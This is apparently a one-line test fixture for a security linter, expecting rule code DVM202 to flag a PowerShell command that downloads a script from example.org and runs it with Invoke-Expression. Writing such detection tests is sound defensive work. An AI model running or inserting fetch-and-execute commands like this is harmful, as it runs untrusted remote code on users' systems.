# expect: DVM202
pwsh -c 'iex (iwr https://example.org/i.sh)'
